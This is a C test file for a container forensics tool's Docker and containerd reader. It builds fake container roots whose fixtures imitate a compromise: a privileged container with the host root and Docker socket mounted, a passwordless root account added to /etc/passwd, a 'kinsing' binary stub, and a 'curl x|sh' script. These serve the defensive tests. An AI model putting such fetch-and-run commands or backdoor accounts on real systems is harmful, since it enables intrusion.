/* SPDX-License-Identifier: Apache-2.0 */
/*
 * test-docker-root.c - `tyto docker`'s reader on Docker and containerd roots
 * built here in a temporary directory: container listing with dangerous
 * settings, a corrupt and a half-deleted container, id/name resolution,
 * json-file logs across a gzip rotation with a bad line, the overlay2 diff
 * (A/C from the lower layer, .wh. whiteouts, opaque directory, SHA-256 of a
 * new ELF), the guessed diff without lower layers, the same diff from the
 * image layers' tar-split lists, containerd listing.
 */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
#include <zlib.h>

#include <tyto/buf.h>
#include <tyto/docker.h>

#include "test.h"

#define ID1 "aaaa1111bbbb2222cccc3333dddd4444eeee5555ffff6666aaaa7777bbbb8888"
#define ID2 "bbbb1111bbbb2222cccc3333dddd4444eeee5555ffff6666aaaa7777bbbb8888"
#define ID3 "cccc1111bbbb2222cccc3333dddd4444eeee5555ffff6666aaaa7777bbbb8888"

static char base[256];

static void mkp(const char *rel)
{
    char p[1024], *s;
    snprintf(p, sizeof(p), "%s/%s", base, rel);
    for (s = p + strlen(base) + 1; (s = strchr(s, '/')) != NULL; s++) {
        *s = '\0';
        mkdir(p, 0755);
        *s = '/';
    }
    mkdir(p, 0755);
}

static void put(const char *rel, const char *text, size_t len, mode_t mode)
{
    char p[1024];
    snprintf(p, sizeof(p), "%s/%s", base, rel);
    char d[1024];
    snprintf(d, sizeof(d), "%s", rel);
    char *sl = strrchr(d, '/');
    if (sl) {
        *sl = '\0';
        mkp(d);
    }
    FILE *f = fopen(p, "wb");
    CHECK(f != NULL);
    if (!f)
        return;
    fwrite(text, 1, len, f);
    fclose(f);
    chmod(p, mode);
}

#define PUT(rel, s) put((rel), (s), strlen(s), 0644)

static void rm_tree(const char *p)
{
    char cmd[600];
    snprintf(cmd, sizeof(cmd), "rm -rf '%s'", p);
    if (system(cmd) != 0)
        fprintf(stderr, "could not remove %s\n", p);
}

struct acc {
    struct ty_buf b;
    unsigned n, bad;
};

static int on_container(void *arg, const struct ty_docker_container *c)
{
    struct acc *a = arg;
    a->n++;
    ty_buf_addf(&a->b, "%.4s|%s|%s|%s|%s|%u|%s|%s\n", c->id, c->name, c->image, c->state,
                c->command, c->n_flags, c->flags, c->problem);
    return 0;
}

static int on_log(void *arg, const struct ty_docker_log *l)
{
    struct acc *a = arg;
    a->n++;
    if (l->bad) {
        a->bad++;
        ty_buf_addf(&a->b, "BAD line %llu\n", (unsigned long long)l->line);
        return 0;
    }
    ty_buf_addf(&a->b, "%.*s %.*s %.*s%s\n", (int)l->time.len, l->time.p, (int)l->stream.len,
                l->stream.p, (int)l->log.len, l->log.p, l->partial ? " +" : "");
    return 0;
}

static int on_change(void *arg, const struct ty_docker_change *c)
{
    struct acc *a = arg;
    a->n++;
    ty_buf_addf(&a->b, "%c %s%s%s%s\n", c->kind, c->path, c->guessed ? " ?" : "",
                c->exec ? " " : "", c->exec ? c->sha256 : "");
    return 0;
}

static int on_ctrd(void *arg, const struct ty_containerd_item *it)
{
    struct acc *a = arg;
    a->n++;
    ty_buf_addf(&a->b, "%s %s %s %s\n", it->kind, it->id, it->ns, it->detail);
    return 0;
}

static void build_docker(void)
{
    char root[300];
    snprintf(root, sizeof(root), "var/lib/docker");
    (void)root;
    PUT("var/lib/docker/containers/" ID1 "/config.v2.json",
        "{\"ID\":\"" ID1 "\",\"Created\":\"2024-03-12T14:02:11.5Z\",\"Path\":\"/bin/sh\","
        "\"Args\":[\"-c\",\"sleep 1\"],\"Config\":{\"Image\":\"alpine:3.19\"},"
        "\"Image\":\"sha256:9a3f\",\"Name\":\"/evil\",\"Driver\":\"overlay2\",\"MountPoints\":{},"
        "\"State\":{\"Running\":false,\"Pid\":0,\"ExitCode\":137,"
        "\"StartedAt\":\"2024-03-12T14:02:12Z\",\"FinishedAt\":\"2024-03-12T15:00:00Z\"}}");
    PUT("var/lib/docker/containers/" ID1 "/hostconfig.json",
        "{\"Binds\":[\"/:/host\"],\"NetworkMode\":\"default\",\"Privileged\":true,"
        "\"RestartPolicy\":{\"Name\":\"always\"},\"Mounts\":[{\"Type\":\"bind\","
        "\"Source\":\"/var/run/docker.sock\",\"Target\":\"/s.sock\"}]}");
    /* logs: rotation .1 gzip-compressed (older), then the live file with a bad line */
    const char *old =
        "{\"log\":\"first\\n\",\"stream\":\"stdout\",\"time\":\"2024-03-12T14:02:13Z\"}\n";
    char p[600];
    snprintf(p, sizeof(p), "%s/var/lib/docker/containers/" ID1 "/" ID1 "-json.log.1.gz", base);
    gzFile g = gzopen(p, "wb");
    CHECK(g != NULL);
    if (g) {
        gzwrite(g, old, (unsigned)strlen(old));
        gzclose(g);
    }
    PUT("var/lib/docker/containers/" ID1 "/" ID1 "-json.log",
        "{\"log\":\"second\\n\",\"stream\":\"stderr\",\"time\":\"2024-03-12T14:02:14Z\"}\n"
        "{\"log\":\"trunc\n"
        "{\"log\":\"piece\",\"stream\":\"stdout\",\"time\":\"2024-03-12T14:02:15Z\"}\n");
    /* ID2: corrupt config, hostconfig deleted */
    PUT("var/lib/docker/containers/" ID2 "/config.v2.json", "{\"ID\":\"" ID2 "\",\"Crea");
    /* ID3: an empty directory (half-deleted) */
    mkp("var/lib/docker/containers/" ID3);
    /* layers of ID1: mount m1 over base layer b0 (via the l/ short link) */
    PUT("var/lib/docker/image/overlay2/layerdb/mounts/" ID1 "/mount-id", "m1");
    PUT("var/lib/docker/overlay2/m1/lower", "l/SHORT0");
    mkp("var/lib/docker/overlay2/l");
    snprintf(p, sizeof(p), "%s/var/lib/docker/overlay2/l/SHORT0", base);
    CHECK(symlink("../b0/diff", p) == 0);
    PUT("var/lib/docker/overlay2/b0/diff/etc/passwd", "root:x:0:0::/root:/bin/sh\n");
    PUT("var/lib/docker/overlay2/b0/diff/bin/busybox", "\x7f" "ELF-base");
    PUT("var/lib/docker/overlay2/b0/diff/opt/old/file", "x");
    mkp("var/lib/docker/overlay2/b0/diff/tmp");
    PUT("var/lib/docker/overlay2/m1/diff/etc/passwd",
        "root:x:0:0::/root:/bin/sh\nevil::0:0::/:/bin/sh\n");
    put("var/lib/docker/overlay2/m1/diff/tmp/kinsing", "\x7f" "ELF\x02\x01", 6, 0644);
    put("var/lib/docker/overlay2/m1/diff/tmp/zzz", "#!/bin/sh\ncurl x|sh\n", 20, 0644);
    put("var/lib/docker/overlay2/m1/diff/tmp/run.sh", "echo", 4, 0755);
    PUT("var/lib/docker/overlay2/m1/diff/tmp/notes.txt", "hello");
    PUT("var/lib/docker/overlay2/m1/diff/bin/.wh.busybox", "");
    PUT("var/lib/docker/overlay2/m1/diff/opt/old/.wh..wh..opq", "");
    PUT("var/lib/docker/overlay2/m1/diff/opt/old/new", "n");
}

static void test_list(void)
{
    char root[600];
    struct acc a;
    struct ty_err err;
    memset(&a, 0, sizeof(a));
    ty_buf_init(&a.b, 0);
    CHECK_INT(ty_docker_find_root(base, root, sizeof(root)), TY_DOCKER_ENGINE);
    CHECK(strstr(root, "/var/lib/docker") != NULL);
    CHECK_INT(ty_docker_list(root, on_container, &a, &err), 0);
    CHECK_INT(a.n, 3);
    CHECK_STR(a.b.buf,
              "aaaa|evil|alpine:3.19|exited|/bin/sh -c sleep 1|4|privileged; host / mounted "
              "/:/host; container runtime socket mounted /var/run/docker.sock:/s.sock; "
              "restart always|\n"
              "bbbb|||?||0||config.v2.json: offset 78: unterminated string, found end of input; "
              "hostconfig.json: "
              "No such file or directory\n"
              "cccc|||?||0||config.v2.json: No such file or directory; hostconfig.json: No such "
              "file or directory\n");
    char id[100];
    CHECK_INT(ty_docker_resolve(root, "aaaa", id, sizeof(id), &err), 0);
    CHECK_STR(id, ID1);
    CHECK_INT(ty_docker_resolve(root, "/evil", id, sizeof(id), &err), 0);
    CHECK_STR(id, ID1);
    CHECK_INT(ty_docker_resolve(root, "evil", id, sizeof(id), &err), 0);
    CHECK_INT(ty_docker_resolve(root, "nope", id, sizeof(id), &err), TY_EINVAL);
    CHECK(strstr(err.msg, "no such container") != NULL);
    CHECK_INT(ty_docker_resolve(root, "", id, sizeof(id), &err), TY_EINVAL);
    ty_buf_release(&a.b);
}

static void test_logs(void)
{
    char root[600];
    struct acc a;
    struct ty_err err;
    memset(&a, 0, sizeof(a));
    ty_buf_init(&a.b, 0);
    ty_docker_find_root(base, root, sizeof(root));
    CHECK_INT(ty_docker_logs(root, ID1, on_log, &a, &err), 0);
    CHECK_STR(a.b.buf, "2024-03-12T14:02:13Z stdout first\n"
                       "2024-03-12T14:02:14Z stderr second\n"
                       "BAD line 2\n"
                       "2024-03-12T14:02:15Z stdout piece +\n");
    CHECK_INT(a.bad, 1);
    CHECK_INT(ty_docker_logs(root, ID2, on_log, &a, &err), TY_EINVAL);
    CHECK(strstr(err.msg, "no json-file log") != NULL);
    ty_buf_release(&a.b);
}

static const char diff_exact[] =
              "C /bin\n"
              "D /bin/busybox\n"
              "C /etc\n"
              "C /etc/passwd\n"
              "C /opt\n"
              "C /opt/old\n"
              "A /opt/old/new\n"
              "C /tmp\n"
              "A /tmp/kinsing 786d95ff4308ec8ee6ce17efdaa94531800558a865f1db5c979a86d4b651fd51\n"
              "A /tmp/notes.txt\n"
              "A /tmp/run.sh 092c79e8f80e559e404bcf660c48f3522b67aba9ff1484b0367e1a4ddef7431d\n"
              "A /tmp/zzz f45549216da46ccad15188a842560e6de675299a899fbfe97cbb1db7b9156682\n";

static void test_diff(void)
{
    char root[600], p[700];
    struct acc a;
    struct ty_err err;
    struct ty_docker_diff_stats st;
    memset(&a, 0, sizeof(a));
    ty_buf_init(&a.b, 0);
    ty_docker_find_root(base, root, sizeof(root));
    CHECK_INT(ty_docker_diff(root, ID1, on_change, &a, &st, &err), 0);
    CHECK(st.lower_found);
    CHECK_INT(st.exec, 3);
    /* sha256 of "\x7fELF\x02\x01", "#!/bin/sh\ncurl x|sh\n" and "echo" */
    CHECK_STR(a.b.buf, diff_exact);
    /* without the lower layer: guessed, directories C and files A */
    snprintf(p, sizeof(p), "%s/overlay2/l/SHORT0", root);
    unlink(p);
    ty_buf_reset(&a.b);
    CHECK_INT(ty_docker_diff(root, ID1, on_change, &a, &st, &err), 0);
    CHECK(!st.lower_found);
    CHECK(strstr(a.b.buf, "C /etc ?\nA /etc/passwd ?\n") != NULL);
    CHECK(strstr(a.b.buf, "D /bin/busybox\n") != NULL);
    /* the image layers' tar-split file lists settle A/C again */
    const char *l1 = "{\"type\":2,\"payload\":\"AAAA\",\"position\":0}\n"
                     "{\"type\":1,\"name\":\"etc/\",\"position\":1}\n"
                     "{\"type\":1,\"name\":\"etc/passwd\",\"size\":27,\"position\":2}\n"
                     "{\"type\":1,\"name\":\"bin/\"}\n{\"type\":1,\"name\":\"bin/busybox\"}\n";
    const char *l2 = "{\"type\":1,\"name\":\"./tmp/\"}\n{\"type\":1,\"name\":\"opt/\"}\n"
                     "{\"type\":1,\"name\":\"opt/old/\"}\n{\"type\":1,\"name\":\"usr/.wh.tmp\"}\n"
                     "not json\n";
    const char *lz[2] = {l1, l2};
    for (int i = 0; i < 2; i++) {
        snprintf(p, sizeof(p), "%s/image/overlay2/layerdb/sha256/L%d/tar-split.json.gz", root,
                 i + 1);
        char d[700];
        snprintf(d, sizeof(d), "var/lib/docker/image/overlay2/layerdb/sha256/L%d/x", i + 1);
        put(d, "", 0, 0644);
        gzFile g = gzopen(p, "wb");
        CHECK(g != NULL);
        if (g) {
            gzwrite(g, lz[i], (unsigned)strlen(lz[i]));
            gzclose(g);
        }
    }
    PUT("var/lib/docker/image/overlay2/layerdb/sha256/L2/parent", "sha256:L1\n");
    PUT("var/lib/docker/image/overlay2/layerdb/mounts/" ID1 "/parent", "sha256:L2\n");
    ty_buf_reset(&a.b);
    CHECK_INT(ty_docker_diff(root, ID1, on_change, &a, &st, &err), 0);
    CHECK(st.lower_found);
    CHECK(strstr(a.b.buf, "C /etc\nC /etc/passwd\n") != NULL);
    CHECK(strstr(a.b.buf, "C /opt/old\nA /opt/old/new\nC /tmp\n") != NULL);
    CHECK(strstr(a.b.buf, "?") == NULL);
    CHECK_STR(a.b.buf, diff_exact); /* the same answer as from the lower directory */
    /* half-deleted: no mount-id, no layer */
    CHECK_INT(ty_docker_diff(root, ID2, on_change, &a, &st, &err), TY_EINVAL);
    CHECK(strstr(err.msg, "writable layer cannot be found") != NULL);
    ty_buf_release(&a.b);
}

static void test_containerd(void)
{
    char root[600];
    struct acc a;
    struct ty_err err;
    memset(&a, 0, sizeof(a));
    ty_buf_init(&a.b, 0);
    PUT("ctrd/var/lib/containerd/io.containerd.snapshotter.v1.overlayfs/snapshots/1/fs/bin/sh",
        "x");
    mkp("ctrd/var/lib/containerd/io.containerd.snapshotter.v1.overlayfs/snapshots/2");
    PUT("ctrd/run/containerd/io.containerd.runtime.v2.task/k8s.io/" ID1 "/config.json",
        "{\"process\":{\"args\":[\"/pause\",\"-v\"]}}");
    PUT("ctrd/run/containerd/io.containerd.runtime.v2.task/k8s.io/" ID2 "/config.json", "{bad");
    char ctrd[600];
    snprintf(ctrd, sizeof(ctrd), "%s/ctrd", base);
    CHECK_INT(ty_docker_find_root(ctrd, root, sizeof(root)), TY_DOCKER_CONTAINERD);
    CHECK_INT(ty_containerd_list(root, on_ctrd, &a, &err), 0);
    CHECK_STR(a.b.buf, "snapshot 1  1 entries in fs/\n"
                       "snapshot 2  fs/ missing\n"
                       "task " ID1 " k8s.io /pause -v\n"
                       "task " ID2 " k8s.io config.json: offset 1: expected a string key or '}', "
                       "found 'b'\n");
    CHECK_INT(ty_docker_find_root("/nonexistent-tyto", root, sizeof(root)), TY_DOCKER_NONE);
    ty_buf_release(&a.b);
}

void test_docker_root(void);
void test_docker_root(void)
{
    snprintf(base, sizeof(base), "%s/tyto-docker-XXXXXX", getenv("TMPDIR") ? getenv("TMPDIR")
                                                                           : "/tmp");
    if (!mkdtemp(base)) {
        ty_test_skip("cannot make a temporary directory");
        return;
    }
    build_docker();
    test_list();
    test_logs();
    test_diff();
    test_containerd();
    rm_tree(base);
}
